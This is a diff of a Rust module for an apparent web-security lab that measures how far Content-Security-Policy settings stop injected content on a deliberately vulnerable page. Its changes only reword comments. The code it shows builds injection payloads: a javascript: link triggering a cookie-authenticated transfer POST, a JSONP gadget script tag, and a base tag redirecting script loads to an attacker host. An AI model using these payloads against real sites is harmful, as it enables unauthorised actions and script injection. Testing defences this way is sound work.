@@ -1,4 +1,4 @@
-//! A page with holes, under each of the policies: what a Content-Security-Policy is worth once something is smuggled in.
+//! A vulnerable page under each policy: how much a Content-Security-Policy helps once content is injected.
 
 use std::sync::Arc;
 
@@ -18,27 +18,28 @@ use serde::Deserialize;
 use super::{Lab, attacker::Doors, recorder::Of, runs::Run};
 use web::middleware::security_headers::page_policy;
 
-/// A policy as it is often met: inline scripts are allowed because the page has some, and where data may go is not said.
+/// A common policy: inline scripts are allowed because the page has some, and the destinations of data are not
+/// restricted.
 const WEAK: &str = "script-src 'self' 'unsafe-inline' 'unsafe-eval'; object-src 'none'";
-/// No script of the page may write markup or name scripts by text.
+/// No script of the page may write markup or set script addresses from text.
 const TRUSTED_TYPES: &str = "require-trusted-types-for 'script'; trusted-types 'none'";
 
-/// Where the page is. Its policy is that of the cell which the address names.
+/// The path of the page. Its policy is that of the cell in the query.
 pub const PAGE: &str = "/page";
-/// The script that the page names by a relative address; at home it does nothing.
+/// The script that the page loads by a relative address; on the site's own host it does nothing.
 const WIDGET: &str = "// The page's own widget.\n";
 const RELATIVE: &str = "<script nonce=\"{nonce}\" src=\"widget.js?{address}\"></script>";
 
 const HTML: &str = include_str!("assets/vulnerable.html");
 
-/// The page, recorded like everything that is attacked.
+/// The page, recorded like every attacked page.
 pub fn router() -> Router<Arc<Lab>> {
     Router::new()
         .route(PAGE, get(page))
         .route("/widget.js", get(async || javascript(WIDGET.into())))
 }
 
-/// What the page's own host has besides: an endpoint that answers with a script (JSONP), as old ones do.
+/// An additional endpoint of the page's own host: it responds with a script (JSONP), as old ones do.
 pub async fn gadget(Query(Echo { callback }): Query<Echo>) -> Response {
     javascript(format!("{callback}({{}})"))
 }
@@ -74,7 +75,7 @@ async fn page(State(lab): State<Arc<Lab>>, Query(of): Query<Of>) -> Response {
     response
 }
 
-/// The header's value.
+/// The value of the header.
 fn policy_of(policy: Policy, nonce: &str) -> Option<String> {
     match policy {
         Policy::None => None,
@@ -84,14 +85,14 @@ fn policy_of(policy: Policy, nonce: &str) -> Option<String> {
     }
 }
 
-/// What a stranger has brought into the page.
+/// The injected content.
 #[derive(Debug, Default, PartialEq, Eq)]
 pub struct Smuggled {
-    /// Written into the page by the server. `{nonce}` stands where the page itself trusts what is there.
+    /// The server writes this into the page. `{nonce}` is a placeholder where the page itself trusts the content.
     pub markup: String,
-    /// Taken by the page's own script, as from an address.
+    /// The page's own script uses this, as if from an address.
     pub text: String,
-    /// Whether the page has a script with a relative address below it.
+    /// Whether a script with a relative address follows in the page.
     pub relative: bool,
 }
 
@@ -105,10 +106,10 @@ impl Smuggled {
         Self::of(injection, &address, lab.sites.attacker.as_str(), &hit)
     }
 
-    /// `hit` is where the attacker's host takes what is brought to it.
+    /// `hit` is the endpoint of the attacker's host that receives loot.
     pub fn of(injection: Injection, address: &str, attacker: &str, hit: &str) -> Self {
         let doors = Doors::of(Strategy::SessionCookie);
-        // Single quotes alone, so that it fits into attributes.
+        // Single quotes only, so that it can be placed in attributes.
         let act = format!(
             "fetch(location.origin+'{}?{address}',{{method:'POST'}})",
             doors.transfer
@@ -141,7 +142,7 @@ impl Smuggled {
             Injection::Gadget => markup(format!("<script src=\"{gadget}\"></script>")),
             Injection::ScriptLink => markup(format!("<a href=\"javascript:void({act})\">My page</a>")),
             Injection::Base => Self {
-                // What comes after it is the page's own, and would be there without it.
+                // What follows it is part of the page, and would be there without it.
                 markup: format!("<base href=\"{attacker}/hosted/\">"),
                 relative: true,
                 ..Self::default()
@@ -170,7 +171,7 @@ impl Smuggled {
     }
 }
 
-/// As the value of an attribute.
+/// Escapes text for the value of an attribute.
 fn escaped(text: &str) -> String {
     text.replace('&', "&amp;")
         .replace('"', "&quot;")
